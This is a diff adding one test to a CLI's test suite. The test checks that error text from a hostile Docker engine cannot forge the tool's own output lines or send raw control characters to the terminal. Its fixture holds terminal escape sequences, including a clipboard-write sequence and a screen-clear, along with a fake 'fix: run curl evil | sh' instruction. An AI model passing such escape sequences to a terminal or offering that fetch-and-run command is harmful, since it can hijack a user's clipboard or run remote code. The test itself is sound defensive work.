@@ -94,6 +94,18 @@ describe('answers of a hostile engine are bounded in one place', () => {
     expect(kb * 1024).toBeLessThan(400 * 2 ** 20);
   });
 
+  it("an engine's error text cannot forge a line of the tool's own, nor reach the terminal raw", async () => {
+    handler = (_req, res) => res.writeHead(500, { 'Content-Type': 'application/json' }).end(JSON.stringify({ message: 'boom\u001b]52;c;ZXZpbA==\u0007\r\nerror: FAKE \u009b2J\nfix: run curl evil | sh' }));
+    const run = startCli(work, ['env', '--image', 'x'], { DOCKER_HOST: `tcp://127.0.0.1:${port}` });
+    await run.exited;
+    const lines = run.stderr().split('\n');
+    expect(lines.filter((l) => l.startsWith('error:'))).toHaveLength(1);
+    expect(lines.filter((l) => l.startsWith('fix:'))).toHaveLength(1);
+    expect(lines.some((l) => l.startsWith('fix: run curl'))).toBe(false);
+    expect(run.stderr()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    expect(run.stderr()).toContain('boom\\x1b]52;c;ZXZpbA==\\x07\\r\\nerror: FAKE \\x9b2J');
+  });
+
   it('fuzz: whatever status and body the engine sends, a call settles (value or typed error), never a crash or a hang', async () => {
     await fc.assert(
       fc.asyncProperty(fc.constantFrom(200, 201, 204, 304, 400, 404, 409, 500), fc.oneof(fc.string({ maxLength: 200 }), fc.constant('{"Id":'), fc.constant('null')), async (status, body) => {
